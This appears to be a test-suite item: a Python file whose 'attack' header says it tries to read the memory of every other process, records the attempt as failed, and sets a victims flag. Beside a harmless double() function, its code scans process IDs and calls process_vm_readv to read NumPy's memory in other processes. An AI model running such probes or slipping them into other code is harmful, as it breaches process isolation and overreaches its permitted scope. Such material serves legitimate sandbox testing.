# /// attack
# tries = "Reads the memory of every process that it can number, where NumPy's code lies in all of them."
# attempt = "failed"
# with_victims = true
# ///
import ctypes
import os
import time

import numpy as np


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attempt():
    libc, own, ends = ctypes.CDLL(None), os.getpid(), time.monotonic() + 0.8
    room = ctypes.create_string_buffer(8)
    here, there = Piece(ctypes.addressof(room), 8), Piece(id(np.ndarray), 8)
    for pid in (p for p in range(1, 1 << 22) if p != own):
        for call in (libc.process_vm_readv, libc.process_vm_writev):
            # nothing is written: no piece there
            if call(pid, ctypes.byref(here), 1, ctypes.byref(there), int(call is libc.process_vm_readv), 0) >= 0:
                return True
        if pid % 1000 == 0 and time.monotonic() > ends:
            break
    return False


def double(x):
    return 2 * x
